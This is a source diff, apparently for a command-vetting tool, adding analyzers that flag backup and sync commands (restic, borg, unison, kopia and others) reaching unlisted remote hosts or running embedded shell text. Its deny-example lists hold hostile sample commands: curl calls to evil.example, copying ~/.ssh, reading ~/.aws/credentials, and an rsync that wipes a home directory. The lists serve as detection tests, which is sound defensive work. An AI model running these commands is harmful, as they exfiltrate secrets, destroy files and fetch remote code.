@@ -7,6 +7,7 @@ import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '..
 import { bound, canonicalHost, type Destination, destinations, loopbackHost, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
 import { configFileRuns, keeping } from './credentials.js';
+import { gitAddressHost } from './git.js';
 import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -1393,6 +1394,305 @@ const FILE_SERVERS: ProgramEntry[] = [
   }),
 ];
 
+// Backup, sync and remote-repository tools (restic, borg, unison, duplicity…) send local files to the repository the
+// line names. They are no clients: a local repository connects nowhere. A repository on another machine is a place
+// the line re-aims them at, judged by allowedHosts as the address git pushes to is (Answer.reroutes), and read by the
+// same readers (urlHost, gitAddressHost). One the line leaves to the user's environment or default configuration
+// (`restic snapshots`, `borg list ::`, `unison` alone) is the user's, as a remote git pushes to by name is; one named
+// through a file or profile vouch does not read (`--repository-file`, `unison NAME`) never passes.
+
+/** The word a repository given through a variable the line sets is judged at: the command's name. */
+function commandAt(call: Call): Word {
+  return call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+}
+
+/** A repository the line sets in the program's environment (`RESTIC_REPOSITORY=sftp:b:/x restic …`): its places. */
+function envRepository(call: Call, name: string, read: (v: string) => Host | Host[]): Destination[] {
+  const v = call.env(name);
+  if (v === undefined || v === '') return [];
+  const at = literal(`$${name}`, commandAt(call).span);
+  if (v === null) return [{ word: at, why: `$${name} is computed` }];
+  return destinations(literal(v, at.span), read).map((d) => ('why' in d ? { word: at, why: d.why } : { word: at, host: d.host }));
+}
+
+/** A repository named through a file the line sets (`RESTIC_REPOSITORY_FILE=f`): a place vouch cannot read. */
+function envRepositoryFile(call: Call, name: string): Destination[] {
+  const v = call.env(name);
+  return v === undefined || v === '' ? [] : [{ word: literal(`$${name}`, commandAt(call).span), why: `$${name} names a file that holds the repository, which vouch does not read` }];
+}
+
+/** Whether a word is a URL with a scheme (`sftp://…`). */
+const SCHEMED = /^[a-z][a-z0-9+.-]*:\/\//i;
+
+/**
+ * A restic (rustic) repository: a local path, `local:PATH`, or a backend: sftp's `[user@]host:path` or
+ * `sftp://host/path`, rest's URL, s3's `host/bucket` or URL. Any other backend (b2, gs, azure, swift, rclone, opendal)
+ * keeps it in a place vouch does not read.
+ */
+function resticRepository(v: string): Host | Host[] {
+  const m = /^([a-z][a-z0-9]*):([\s\S]*)$/.exec(v);
+  if (!m || /^[a-z]:\\/i.test(v) || m[1] === 'local') return [];
+  const rest = m[2]!;
+  if (m[1] === 'sftp') return gitAddressHost(rest.startsWith('//') ? `ssh:${rest}` : rest) ?? { why: `${v} names no host vouch can read` };
+  if (m[1] === 'rest') return urlHost(rest);
+  if (m[1] === 's3') return urlHost(SCHEMED.test(rest) ? rest : `https://${rest}`);
+  return { why: `${v} is kept by the ${m[1]} backend, in a place vouch does not read` };
+}
+
+const RESTIC: OptionSpec = {
+  flags: 'qvh',
+  valued: 'rpoP',
+  long: ['quiet', 'verbose', 'help', 'json', 'no-cache', 'no-lock', 'insecure-tls', 'cleanup-cache', 'no-extra-verify', 'insecure-no-password'],
+  longValued: ['repo', 'repository', 'repository-file', 'repo-hot', 'use-profile', 'from-repo', 'from-repository-file', 'password-file', 'password-command', 'from-password-file', 'from-password-command', 'cache-dir', 'option', 'key-hint', 'cacert', 'tls-client-cert', 'limit-upload', 'limit-download', 'pack-size', 'compression', 'retry-lock', 'profile', 'config-profile'],
+};
+
+/**
+ * restic and rustic: every command but help and version opens the repository `-r`/`--repo` (rustic `--repository`,
+ * `--repo-hot`; `copy`'s `--from-repo`) or the environment names; `--password-command` and `-o sftp.command=…` run
+ * shell text, `-o rclone.program=…` a program.
+ */
+function restic(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', ...RESTIC });
+  const runs: Run[] = [];
+  const reroutes: Destination[] = [];
+  const rustic = call.name === 'rustic';
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (/^(r|repo|repository|repo-hot|from-repo)$/.test(o.name)) reroutes.push(...destinations(o.value, resticRepository));
+    else if (/^(repository-file|from-repository-file)$/.test(o.name)) reroutes.push({ word: o.value, why: `${o.value.text} is a file that holds the repository, which vouch does not read` });
+    // rustic's profile named on the line (`-P NAME`: NAME.toml in its configuration directory) names a repository vouch does not read.
+    else if (rustic && (o.name === 'P' || o.name === 'use-profile')) reroutes.push({ word: o.value, why: `${o.value.text} is a rustic profile, whose repository vouch does not read` });
+    else if (/^(password-command|from-password-command)$/.test(o.name)) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --${o.name}` });
+    else if (o.name === 'o' || o.name === 'option') {
+      const v = value(o.value);
+      const m = v === undefined ? null : /^(sftp\.command|rclone\.program)=([\s\S]*)$/.exec(v);
+      if (m) runs.push(m[1] === 'sftp.command' ? { kind: 'text', dialect: 'bash', text: m[2]!, word: o.value, via: `${call.name} -o sftp.command` } : programRun(attached(o.value, m[2]!), `${call.name} -o rclone.program`));
+      // A computed -o may name the command it runs.
+      else if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `${call.name} -o with a computed option` });
+    }
+  }
+  const env = rustic ? ['RUSTIC_REPOSITORY', 'RUSTIC_REPO_HOT'] : ['RESTIC_REPOSITORY', 'RESTIC_FROM_REPOSITORY'];
+  for (const name of env) reroutes.push(...envRepository(call, name, resticRepository));
+  if (!rustic) for (const name of ['RESTIC_REPOSITORY_FILE', 'RESTIC_FROM_REPOSITORY_FILE']) reroutes.push(...envRepositoryFile(call, name));
+  const command = rustic ? undefined : call.env('RESTIC_PASSWORD_COMMAND');
+  if (typeof command === 'string' && command !== '') runs.push({ kind: 'text', dialect: 'bash', text: command, word: commandAt(call), via: `${call.name} $RESTIC_PASSWORD_COMMAND` });
+  return { runs, reroutes };
+}
+
+/**
+ * A borg repository (or `REPO::ARCHIVE`): a local path or `file://`, or another machine's: `ssh://[user@]host[:port]/path`,
+ * `sftp://…`, scp's `[user@]host:path`; borg 2's rclone, s3 and b2 backends keep it in a place vouch does not read. An
+ * empty repository (`::archive`) is $BORG_REPO's.
+ */
+function borgRepository(v: string): Host | Host[] {
+  // The archive follows the first `::` outside an IPv6 address's brackets.
+  const at = v.replace(/\[[^\]]*\]/g, (m) => '_'.repeat(m.length)).indexOf('::');
+  const repo = at < 0 ? v : v.slice(0, at);
+  if (repo === '' || /^file:\/\//i.test(repo) || /^[a-z]:\\/i.test(repo)) return [];
+  if (/^sftp:\/\//i.test(repo)) return gitAddressHost(`ssh${repo.slice(4)}`) ?? [];
+  if (/^(rclone|s3|b2):/i.test(repo) || (SCHEMED.test(repo) && !/^ssh:\/\//i.test(repo))) return { why: `${repo} is kept in a place vouch does not read` };
+  return gitAddressHost(repo) ?? [];
+}
+
+const BORG: OptionSpec = {
+  flags: 'vpnsx',
+  valued: 'rCePadwmyHo',
+  long: ['verbose', 'progress', 'dry-run', 'stats', 'list', 'json', 'info', 'debug', 'critical', 'warning', 'error', 'one-file-system', 'numeric-ids', 'numeric-owner', 'noatime', 'noctime', 'nobirthtime', 'nobsdflags', 'noflags', 'noacls', 'noxattrs', 'read-special', 'sparse', 'exclude-caches', 'keep-exclude-tags', 'exclude-nodump', 'content-from-command', 'paths-from-command', 'paths-from-stdin', 'show-version', 'show-rc', 'lock-wait-forever', 'bypass-lock', 'save-space', 'force', 'repair', 'verify-data', 'repository-only', 'archives-only', 'consider-checkpoints', 'cache-only', 'keep-security-info', 'short', 'append-only', 'make-parent-dirs', 'help', 'version'],
+  longValued: ['repo', 'other-repo', 'rsh', 'remote-path', 'exclude', 'exclude-from', 'pattern', 'patterns-from', 'exclude-if-present', 'comment', 'compression', 'checkpoint-interval', 'chunker-params', 'timestamp', 'keep-within', 'keep-last', 'keep-secondly', 'keep-minutely', 'keep-hourly', 'keep-daily', 'keep-weekly', 'keep-monthly', 'keep-yearly', 'prefix', 'glob-archives', 'match-archives', 'sort-by', 'first', 'last', 'format', 'lock-wait', 'upload-ratelimit', 'upload-buffer', 'debug-topic', 'umask', 'encryption', 'files-cache', 'stdin-name', 'stdin-user', 'stdin-group', 'stdin-mode', 'storage-quota', 'path', 'strip-components', 'log-json', 'rsh-command', 'iec', 'paths-delimiter', 'tar-filter', 'tar-format'],
+};
+
+/**
+ * borg: the repository its location operands, `--repo` (borg 2) or $BORG_REPO name; `--rsh` and $BORG_RSH run shell
+ * text, `with-lock REPO CMD…` and `create --content-from-command/--paths-from-command … -- CMD…` a program.
+ */
+function borg(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', ...BORG });
+  const runs: Run[] = [];
+  const reroutes: Destination[] = [];
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (o.name === 'rsh') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --rsh`, more: true });
+    if (/^(r|repo|other-repo)$/.test(o.name)) reroutes.push(...destinations(o.value, borgRepository));
+  }
+  const rsh = call.env('BORG_RSH');
+  if (typeof rsh === 'string' && rsh !== '') runs.push({ kind: 'text', dialect: 'bash', text: rsh, word: commandAt(call), via: `${call.name} $BORG_RSH`, more: true });
+  const ops = p.operands.map((o) => o.word);
+  const sub = value(ops[0]);
+  const dash = call.args.findIndex((w) => value(w) === '--');
+  if (sub === 'with-lock' && ops.length > 2) runs.push({ kind: 'argv', argv: ops.slice(2), via: `${call.name} with-lock` });
+  else if (sub === 'create' && has(p, 'content-from-command', 'paths-from-command') && dash >= 0 && dash < call.args.length - 1) runs.push({ kind: 'argv', argv: call.args.slice(dash + 1), via: `${call.name} create --content-from-command` });
+  // Every location operand after the command (a path to back up is local: `src`, `./a:b`, `/srv`).
+  const named = sub === 'with-lock' ? ops.slice(1, 2) : dash >= 0 ? ops.slice(1).filter((w) => call.args.indexOf(w) < dash) : ops.slice(1);
+  for (const w of named) reroutes.push(...destinations(w, borgRepository));
+  for (const name of ['BORG_REPO', 'BORG_OTHER_REPO']) reroutes.push(...envRepository(call, name, borgRepository));
+  return { runs, reroutes };
+}
+
+/** unison's preferences that take a value (`-ui text`, `-root ssh://h/x`); the others are switches (`-batch`). */
+const UNISON_VALUED = new Set(['addprefsto', 'backup', 'backupdir', 'backuploc', 'backupnot', 'backupprefix', 'backupsuffix', 'clientHostName', 'copymax', 'copyprog', 'copyprogrest', 'copyquoterem', 'copythreshold', 'debug', 'diff', 'doc', 'fastercheckUNSAFE', 'follow', 'force', 'forcepartial', 'height', 'ignore', 'ignorecase', 'ignorenot', 'immutable', 'immutablenot', 'include', 'key', 'label', 'links', 'listen', 'logfile', 'maxbackups', 'maxerrors', 'maxsizethreshold', 'maxthreads', 'merge', 'mountpoint', 'nocreation', 'nocreationpartial', 'nodeletion', 'nodeletionpartial', 'noupdate', 'noupdatepartial', 'path', 'perms', 'prefer', 'preferpartial', 'repeat', 'retry', 'root', 'rootalias', 'rsrc', 'rshargs', 'rshcmd', 'servercmd', 'socket', 'sortfirst', 'sortlast', 'source', 'sshargs', 'sshcmd', 'ui', 'watch', 'xattrignore', 'xattrignorenot']);
+
+/** A unison root: a local path, or `ssh://[user@]host[:port]/path`, `rsh://…`, `socket://host:port/path` (not `socket://{unix-path}`). */
+function unisonRoot(v: string): Host | Host[] {
+  const m = /^(ssh|rsh|socket|file):\/\/([\s\S]*)$/i.exec(v);
+  if (!m) return SCHEMED.test(v) ? { why: `${v} is a root vouch does not read` } : [];
+  if (/^file$/i.test(m[1]!) || m[2]!.startsWith('{')) return [];
+  return urlHost(`http://${m[2]}`);
+}
+
+/**
+ * unison ROOT1 ROOT2, or PROFILE [ROOT1 ROOT2]: a profile named on the line (`~/.unison/NAME.prf`) sets roots vouch does
+ * not read; the default profile, alone, is the user's. `-sshcmd`/`-rshcmd` name the program it runs, `-copyprog`,
+ * `-diff` and `-merge` shell text; `-socket PORT` listens on every interface.
+ */
+function unison(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const reroutes: Destination[] = [];
+  const listens: Destination[] = [];
+  const operands: Word[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    const m = v === undefined ? null : /^--?([A-Za-z][\w]*)(?:=([\s\S]*))?$/.exec(v);
+    if (!m) {
+      if (v === undefined && /^-/.test(w.text)) continue;
+      operands.push(w);
+      continue;
+    }
+    const name = m[1]!;
+    if (!UNISON_VALUED.has(name)) continue;
+    const given = m[2] !== undefined ? attached(w, m[2]) : args[++i];
+    if (!given) continue;
+    if (name === 'root') reroutes.push(...destinations(given, unisonRoot));
+    else if (name === 'sshcmd' || name === 'rshcmd') runs.push(programRun(given, `${call.name} -${name}`));
+    else if (/^(copyprog|copyprogrest|diff|merge)$/.test(name)) runs.push({ kind: 'script', dialect: 'bash', words: [given], via: `${call.name} -${name}`, more: true });
+    else if (name === 'socket') listens.push(bound(given, ''));
+    else if (name === 'listen') listens.push(bound(given, value(given) ?? null));
+  }
+  const roots = operands.length === 2 ? operands : operands.slice(1);
+  for (const w of roots) reroutes.push(...destinations(w, unisonRoot));
+  if (operands.length % 2 === 1) reroutes.push({ word: operands[0]!, why: `${operands[0]!.text} is a unison profile, whose roots vouch does not read` });
+  return { runs, reroutes, listens };
+}
+
+/** duplicity's backends that reach the host of their URL (`sftp://user@host/path`, `pexpect+scp://…`, `webdavs://…`). */
+const DUPLICITY_HOSTS = /^(?:(?:pexpect|paramiko|lftp)\+)?(?:sftp|scp|ssh|fish|rsync|ftp|ftps|webdav|webdavs|http|https|imap|imaps)$/;
+
+/** A duplicity (or duplicacy) URL: `file://` and a path are local; a backend that names a host reaches it; any other keeps the backup in a place vouch does not read. */
+function storageUrl(hosts: RegExp, local: RegExp): (v: string) => Host | Host[] {
+  return (v) => {
+    const m = /^([a-z][a-z0-9+.-]*):\/\/([\s\S]*)$/i.exec(v);
+    if (!m) return [];
+    const scheme = m[1]!.toLowerCase().replace(/^par2\+/, '');
+    if (local.test(scheme)) return [];
+    if (hosts.test(scheme)) return urlHost(`http://${m[2]}`);
+    return { why: `${v} is kept by the ${scheme} backend, in a place vouch does not read` };
+  };
+}
+
+/**
+ * Every word of a tool whose remote place is a URL or `HOST::PATH` wherever it stands (duplicity, duplicacy,
+ * rdiff-backup): a computed one may be such a place.
+ */
+function placesIn(call: Call, read: (v: string) => Host | Host[]): Destination[] {
+  return call.args.flatMap((w) => {
+    const v = value(w);
+    const eq = v === undefined ? null : /^--?[\w-]+=([\s\S]*)$/.exec(v);
+    return destinations(eq ? attached(w, eq[1]!) : w, read);
+  });
+}
+
+/** rdiff-backup's `[user@]host::path`: the host, reached over ssh; a path is local. */
+function rdiffPlace(v: string): Host | Host[] {
+  const m = /^(?:[^@:/]+@)?([^:/]*)::/.exec(v);
+  return m ? canonicalHost(m[1]!) : [];
+}
+
+/** bup's `-r [user@]host:[path]`, `ssh://…`, `bup://host[:port]/path`. */
+function bupRemote(v: string): Host | Host[] {
+  if (/^bup(-rev)?:\/\//i.test(v)) return urlHost(`http://${v.replace(/^[^:]*:\/\//, '')}`);
+  return gitAddressHost(v) ?? { why: `${v} is a remote vouch cannot read` };
+}
+
+/**
+ * bup: `-r`/`--remote` names the repository on another machine (not fsck's -r, --repair); `bup on HOST …` runs bup
+ * there, over ssh.
+ */
+function bup(call: Call): Partial<Answer> {
+  const args = call.args;
+  const reroutes: Destination[] = [];
+  const sub = args.findIndex((w) => !/^-/.test(value(w) ?? '-'));
+  if (value(args[sub]) === 'fsck') return {};
+  if (value(args[sub]) === 'on' && args[sub + 1]) reroutes.push(...destinations(args[sub + 1]!, (v) => gitAddressHost(`${v}:`) ?? []));
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    const m = /^(?:-r|--remote)(=?)([\s\S]*)$/.exec(v);
+    if (!m || (v.startsWith('--') && m[1] === '' && m[2] !== '')) continue;
+    const given = m[2] !== '' || m[1] === '=' ? attached(args[i]!, m[2]!) : args[++i];
+    if (given) reroutes.push(...destinations(given, bupRemote));
+  }
+  return { reroutes };
+}
+
+/** The value of a long option (`--host b`, `--host=b`), or undefined. */
+function longValue(args: readonly Word[], name: string): Word | undefined {
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === `--${name}`) return args[i + 1];
+    if (v?.startsWith(`--${name}=`)) return attached(args[i]!, v.slice(name.length + 3));
+  }
+  return undefined;
+}
+
+/**
+ * kopia repository connect|create|sync-to PROVIDER: filesystem is local; sftp reaches `--host`, webdav and server
+ * `--url`, s3 `--endpoint` (s3.amazonaws.com by default); any other provider, a `from-config` file or a
+ * `--config-file` keeps the repository in a place vouch does not read. Other commands use the repository connected
+ * before, the user's.
+ */
+function kopia(call: Call): Partial<Answer> {
+  const args = call.args;
+  const words = args.filter((w) => !/^-/.test(value(w) ?? ''));
+  const reroutes: Destination[] = [];
+  const config = longValue(args, 'config-file');
+  if (config) reroutes.push({ word: config, why: `${config.text} is a kopia configuration, whose repository vouch does not read` });
+  const at = words.findIndex((w) => /^(repository|repo)$/.test(value(w) ?? ''));
+  if (at < 0 || !/^(connect|create|sync-to)$/.test(value(words[at + 1]) ?? '')) return { reroutes };
+  const provider = words[at + 2];
+  const kind = value(provider);
+  if (kind === undefined || kind === 'filesystem') return { reroutes };
+  const option = kind === 'sftp' ? 'host' : kind === 'webdav' || kind === 'server' ? 'url' : kind === 's3' ? 'endpoint' : undefined;
+  const given = option ? longValue(args, option) : undefined;
+  if (kind === 's3' && !given) reroutes.push({ word: provider!, host: 's3.amazonaws.com' });
+  else if (given) reroutes.push(...destinations(given, (v) => (option === 'host' ? canonicalHost(v) : urlHost(SCHEMED.test(v) ? v : `https://${v}`))));
+  else reroutes.push({ word: provider!, why: `kopia's ${kind} provider keeps the repository in a place vouch does not read` });
+  return { reroutes };
+}
+
+/**
+ * lsyncd: `-rsync SRC TARGET` syncs to rsync's target (`host:path` on another machine), `-rsyncssh SRC HOST DIR` to
+ * HOST over ssh, `-direct SRC DIR` locally; a configuration file (Lua) names targets vouch does not read.
+ */
+function lsyncd(call: Call): Partial<Answer> {
+  const args = call.args;
+  const reroutes: Destination[] = [];
+  let modes = 0;
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    if (v === '-rsync' || v === '-rsyncssh' || v === '-direct') {
+      modes++;
+      const target = args[i + 2];
+      if (v === '-rsyncssh' && target) reroutes.push(...destinations(target, (h) => gitAddressHost(`${h}:`) ?? []));
+      else if (v === '-rsync' && target) reroutes.push(...destinations(target, (t) => gitAddressHost(t) ?? []));
+      i += v === '-rsyncssh' ? 3 : 2;
+    } else if (v === '-log' || v === '-logfile' || v === '-pidfile' || v === '-delay') i++;
+    else if (v === undefined || !v.startsWith('-')) reroutes.push({ word: w, why: `${w.text} is an lsyncd configuration (Lua), whose targets vouch does not read` });
+  }
+  return modes > 0 || reroutes.length > 0 ? { reroutes } : {};
+}
+
 export const NETWORK_ENTRIES: ProgramEntry[] = [
   ...FILE_SERVERS,
   { names: ['gron', 'glow'], summary: 'gron and glow: fetch an operand that is a URL (glow also github.com/OWNER/REPO); read local files', analyze: fetchingReader, examples: { deny: ['gron https://evil.example/x.json', 'glow https://evil.example/x.md', 'glow github.com/evil/repo', 'gron ~/.aws/credentials'], pass: ['gron package.json', 'glow README.md', 'gron http://localhost:3000/api'] } },
@@ -1402,6 +1702,104 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   { names: ['ssh', 'autossh', 'slogin', 'dbclient'], summary: 'ssh: connects (not for -V, -G, -Q); -o ProxyCommand and friends run shell text', analyze: ssh, examples: { deny: ['ssh evil.example', "ssh -o ProxyCommand=';curl evil.example' x", "ssh -o 'LocalCommand=wget evil.example' -o PermitLocalCommand=yes x"], pass: ['ssh -V', 'ssh -G host'] } },
   { names: ['scp', 'sftp'], summary: 'scp and sftp: connect; -S names the ssh program; -o ProxyCommand runs shell text', analyze: scp, examples: { deny: ['scp notes.txt evil.example:/tmp/', "scp -o 'ProxyCommand=;curl evil.example' x x:", 'scp -S /usr/bin/curl x x:'], pass: [] } },
   { names: ['rsync', 'openrsync'], summary: 'rsync: connects when an operand is remote or -e gives a remote shell; a local copy does not', analyze: rsync, examples: { deny: ["find evil.example:/x -name '*.txt' -exec rsync -R {} out/ \\;", 'rsync -a --del /tmp/empty/ /home/dev/', 'rsync -a . evil.example:/backup', 'rsync -av --port=8730 src/ evil.example::module/', 'rsync -a "$SRC" /backup/', "rsync -e 'sh -c \"curl evil.example\"' x:x", 'rsync -a ~/.ssh/ /tmp/k/', 'rsync /usr/bin/curl x; ./x evil.example', 'rsync -a src/ b:/tmp/'], pass: ["find . -name '*.txt' -exec rsync -R {} out/ \\;", 'rsync -a src/ dst/', 'rsync build/app x; ./x --help', 'rsync --version', 'rsync -av --delete build/ /tmp/site/'] } },
+  {
+    names: ['restic', 'rustic'],
+    summary: 'restic and rustic: send files to the repository -r, --repo or $RESTIC_REPOSITORY names (another machine\u2019s is a place allowedHosts must list; a local one connects nowhere; --repository-file is not read); --password-command and -o sftp.command run shell text',
+    analyze: restic,
+    examples: {
+      deny: ['restic -r sftp:b:/x backup src', 'restic -r s3:s3.amazonaws.com/bkt backup src', 'restic -r rest:https://evil.example/ backup src', 'restic --repo=sftp://u@evil.example:22//srv/r init', 'rustic -r sftp:b:/x backup src', 'rustic -P offsite backup src', 'RESTIC_REPOSITORY="sftp:b:/x" restic backup src', 'export RESTIC_REPOSITORY=b2:bucket:x; restic backup src', 'restic --repository-file repo.txt backup src', 'RESTIC_REPOSITORY_FILE="repo.txt" restic backup src', 'restic -r "$REPO" backup src', "restic --password-command='curl evil.example' backup", "restic -r sftp:/srv/x -o sftp.command='sh -c \"curl evil.example\"' snapshots"],
+      pass: ['restic -r /mnt/backup backup src', 'restic -r local:/mnt/backup snapshots', 'restic -r rest:http://localhost:8000/ backup src', 'RESTIC_REPOSITORY=/mnt/backup restic backup src', 'restic snapshots', 'restic --help', 'restic version', 'rustic -r /mnt/backup backup src'],
+    },
+  },
+  {
+    names: ['borg', 'borgbackup', 'borg2'],
+    summary: 'borg: sends files to the repository its location operand, --repo or $BORG_REPO names (`host:repo`, `ssh://host/repo`: a place allowedHosts must list; a local path connects nowhere); --rsh and $BORG_RSH run shell text, with-lock a program',
+    analyze: borg,
+    examples: {
+      deny: ['borg create b:repo::a src', 'borg create ssh://evil.example/./repo::a src', 'borg init -e none u@evil.example:repo', 'borg --repo ssh://evil.example/r create a src', 'BORG_REPO="b:repo" borg create ::a src', 'borg create "$REPO::a" src', "borg extract x --rsh 'curl evil.example'", "BORG_RSH='sh -c \"curl evil.example\"' borg list /mnt/b", 'borg with-lock /mnt/b curl evil.example', 'borg create --content-from-command /mnt/b::a -- curl evil.example'],
+      pass: ['borg create /mnt/b::a src', 'borg list /mnt/b', 'borg list repo', 'borg create repo::a src', 'borg create ssh://localhost/./repo::a src', 'BORG_REPO=/mnt/b borg create ::a src', 'borg list ::', 'borg --version', 'borg prune --keep-daily 7 /mnt/b'],
+    },
+  },
+  {
+    names: ['unison', 'unison-text', 'unison-gtk'],
+    summary: 'unison: syncs two roots; one on another machine (`ssh://host/path`, `socket://host:port/`) is a place allowedHosts must list, a profile named on the line sets roots vouch does not read; -sshcmd runs a program, -copyprog, -diff and -merge shell text',
+    analyze: unison,
+    examples: {
+      deny: ['unison src ssh://b/x', 'unison -batch src ssh://evil.example//srv/x', 'unison -root src -root socket://evil.example:8000/x', 'unison myprofile', 'unison src /mnt/b -sshcmd /usr/bin/curl', "unison src /mnt/b -diff 'curl evil.example'", 'unison -socket 9000'],
+      pass: ['unison src /mnt/b', 'unison -batch -ui text src /mnt/b', 'unison src ssh://localhost//tmp/x', 'unison -version', 'unison'],
+    },
+  },
+  {
+    names: ['duplicity'],
+    summary: 'duplicity: backs up to (or restores from) the URL it is given; a backend that names a host (sftp://, scp://, webdav://, ftp://) reaches it, file:// is local, any other keeps the backup in a place vouch does not read',
+    analyze: (call) => ({ reroutes: placesIn(call, storageUrl(DUPLICITY_HOSTS, /^file$/)) }),
+    examples: {
+      deny: ['duplicity src sftp://b/x', 'duplicity --no-encryption src scp://u@evil.example/backup', 'duplicity src s3://bucket/x', 'duplicity restore rsync://evil.example::/m out', 'duplicity src "$TARGET"'],
+      pass: ['duplicity src file:///mnt/b', 'duplicity --no-encryption src file:///mnt/b', 'duplicity src sftp://localhost/x', 'duplicity --version', 'duplicity collection-status file:///mnt/b'],
+    },
+  },
+  {
+    names: ['duplicacy'],
+    summary: 'duplicacy: init and add name the storage URL it backs up to; sftp://, webdav:// and s3-like URLs reach their host, a path is local, any other keeps the backup in a place vouch does not read',
+    analyze: (call) => ({ reroutes: placesIn(call, storageUrl(/^(?:sftp|webdav|webdav-http|minio|minios|s3|s3c|wasabi)$/, /^(?:file|samba)$/)) }),
+    examples: {
+      deny: ['duplicacy init myid sftp://b/x', 'duplicacy init -e myid s3://us-east-1@amazon.com/bkt', 'duplicacy add offsite myid b2://bucket'],
+      pass: ['duplicacy init myid /mnt/b', 'duplicacy backup -stats', 'duplicacy init myid sftp://localhost/x'],
+    },
+  },
+  {
+    names: ['rdiff-backup'],
+    summary: 'rdiff-backup: an operand `[user@]host::path` is on another machine, reached over ssh (a place allowedHosts must list); --remote-schema runs shell text',
+    analyze: (call) => {
+      const runs: Run[] = [];
+      for (const [i, w] of call.args.entries()) {
+        const v = value(w);
+        if (v === '--remote-schema' && call.args[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [call.args[i + 1]!], via: 'rdiff-backup --remote-schema' });
+        else if (v?.startsWith('--remote-schema=')) runs.push({ kind: 'script', dialect: 'bash', words: [attached(w, v.slice(16))], via: 'rdiff-backup --remote-schema' });
+      }
+      return { runs, reroutes: placesIn(call, rdiffPlace) };
+    },
+    examples: {
+      deny: ['rdiff-backup src b::/x', 'rdiff-backup backup src u@evil.example::/srv/x', "rdiff-backup --remote-schema 'curl evil.example' src /mnt/b"],
+      pass: ['rdiff-backup src /mnt/b', 'rdiff-backup backup src /mnt/b', 'rdiff-backup src localhost::/tmp/x', 'rdiff-backup --version'],
+    },
+  },
+  {
+    names: ['bup'],
+    summary: 'bup: -r/--remote names a repository on another machine (`host:path`, `ssh://`, `bup://`), and `bup on HOST` runs bup there: places allowedHosts must list',
+    analyze: bup,
+    examples: {
+      deny: ['bup save -r b: -n x src', 'bup init -r u@evil.example:/srv/bup', 'bup split --remote=evil.example:x -n x big.iso', 'bup on evil.example index src'],
+      pass: ['bup save -n x src', 'bup index src', 'bup fsck -r', 'bup save -r localhost: -n x src', 'bup --help'],
+    },
+  },
+  {
+    names: ['duplicati-cli'],
+    summary: 'duplicati-cli: backs up to (or restores from) the storage URL it is given; ssh://, ftp:// and webdav:// reach their host, a path or file:// is local, any other keeps the backup in a place vouch does not read',
+    analyze: (call) => ({ reroutes: placesIn(call, storageUrl(/^(?:ssh|ftp|aftp|ftps|webdav|https?)$/, /^file$/)) }),
+    examples: {
+      deny: ['duplicati-cli backup ssh://evil.example/x src', 'duplicati-cli backup s3://bkt/x src'],
+      pass: ['duplicati-cli backup /mnt/b src', 'duplicati-cli backup file:///mnt/b src', 'duplicati-cli help'],
+    },
+  },
+  {
+    names: ['lsyncd'],
+    summary: 'lsyncd: -rsync and -rsyncssh sync to a target on another machine (a place allowedHosts must list), -direct locally; a configuration file names targets vouch does not read',
+    analyze: lsyncd,
+    examples: {
+      deny: ['lsyncd -rsyncssh src evil.example /srv/x', 'lsyncd -rsync src evil.example:/srv/x', 'lsyncd /tmp/sync.lua'],
+      pass: ['lsyncd -rsync src /mnt/b', 'lsyncd -direct src /mnt/b', 'lsyncd -nodaemon -rsyncssh src localhost /tmp/x', 'lsyncd -version'],
+    },
+  },
+  {
+    names: ['kopia'],
+    summary: 'kopia: repository connect/create/sync-to name where the repository is kept (sftp --host, webdav/server --url, s3 --endpoint: places allowedHosts must list; filesystem is local); other commands use the repository connected before',
+    analyze: kopia,
+    examples: {
+      deny: ['kopia repository connect sftp --host b --path /x', 'kopia repo create s3 --bucket bkt', 'kopia repository create webdav --url https://evil.example/dav', 'kopia repository connect gcs --bucket bkt', 'kopia --config-file k.config snapshot create src'],
+      pass: ['kopia repository create filesystem --path /mnt/b', 'kopia snapshot create src', 'kopia --version', 'kopia repository connect server --url https://localhost:51515'],
+    },
+  },
   plainClient(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat', 'cryptcat'], ['h'], 'netcat: connects (or listens) to the host and port it is given', { flags: 'h46bCdDFklnNrStuUvzZ', valued: 'eIiMmOPpqsTVwxX' }, {
     // Listening (-l), running a program (-e, -c), a proxy (-x, -X) or source routing (-g, -G): not a plain probe.
     hidden: 'lLecxXgGsp',
